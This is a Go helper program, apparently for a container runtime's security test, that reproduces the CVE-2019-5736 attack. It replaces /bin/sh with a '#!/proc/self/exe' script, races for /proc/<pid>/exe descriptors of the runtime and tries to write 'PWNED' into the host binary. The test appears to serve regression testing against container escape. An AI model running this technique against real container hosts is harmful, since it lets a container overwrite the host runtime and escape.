// Command attacker runs inside containers (from a volume) to attack the
// mydocker binary through /proc/<pid>/exe: see TestExecCannotOverwriteBinary.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"
	"syscall"
)

const oPath = 0x200000 // O_PATH, which package syscall does not name

func lastPid() int {
	b, _ := os.ReadFile("/proc/sys/kernel/ns_last_pid")
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

func same(fd int, path string) bool {
	var a, b syscall.Stat_t
	return syscall.Fstat(fd, &a) == nil && syscall.Stat(path, &b) == nil && a.Dev == b.Dev && a.Ino == b.Ino
}

// describe tries to write the file behind an O_PATH descriptor of some
// /proc/<pid>/exe: reopened for writing, and written.
func describe(fd int) string {
	var st syscall.Statfs_t
	rdonly := 0
	if syscall.Fstatfs(fd, &st) == nil && st.Flags&1 != 0 { // ST_RDONLY
		rdonly = 1
	}
	link, _ := os.Readlink("/proc/self/fd/" + strconv.Itoa(fd))
	w, err := syscall.Open("/proc/self/fd/"+strconv.Itoa(fd), syscall.O_WRONLY, 0)
	if err != nil {
		return fmt.Sprintf("refused rdonly=%d link=%s err=%v", rdonly, link, err)
	}
	defer syscall.Close(w)
	if _, err := syscall.Pwrite(w, []byte("PWNED"), 0); err != nil {
		return fmt.Sprintf("refused rdonly=%d link=%s write-err=%v", rdonly, link, err)
	}
	return fmt.Sprintf("wrote rdonly=%d link=%s", rdonly, link)
}

func main() {
	switch os.Args[1] {
	case "probe-pid1":
		fd, err := syscall.Open("/proc/1/exe", oPath, 0)
		if err != nil {
			fmt.Println("open-failed", err)
			return
		}
		fmt.Println(describe(fd))
	case "exec-race":
		// CVE-2019-5736: the admin's "exec C sh" runs our /bin/sh, whose
		// interpreter is whatever runs it: mydocker.
		os.Remove("/bin/sh")
		if err := os.WriteFile("/bin/sh", []byte("#!/proc/self/exe\n"), 0o755); err != nil {
			panic(err)
		}
		start := lastPid() + 1
		os.WriteFile("/shared/ready", nil, 0o644)
		done := map[int]bool{os.Getpid(): true}
		var held []int
		var report []string
		for i := 0; ; i++ {
			if i%256 == 0 {
				if _, err := os.Stat("/shared/stop"); err == nil {
					break
				}
			}
			last := lastPid()
			lo := last - 16
			if lo < start {
				lo = start
			}
			for p := lo; p <= last+2; p++ {
				if done[p] {
					continue
				}
				fd, err := syscall.Open("/proc/"+strconv.Itoa(p)+"/exe", oPath, 0)
				if err != nil {
					continue
				}
				done[p] = true
				if same(fd, "/bin/busybox") || same(fd, "/proc/self/exe") {
					syscall.Close(fd)
					continue
				}
				_, werr := syscall.Open("/proc/"+strconv.Itoa(p)+"/exe", syscall.O_RDWR, 0)
				report = append(report, fmt.Sprintf("caught %d direct-open-err=%v", p, werr))
				held = append(held, fd)
				os.WriteFile("/shared/caught", nil, 0o644)
			}
		}
		for _, fd := range held {
			report = append(report, describe(fd))
		}
		os.WriteFile("/shared/report.tmp", []byte(strings.Join(report, "\n")+"\n"), 0o644)
		os.Rename("/shared/report.tmp", "/shared/report")
	}
}
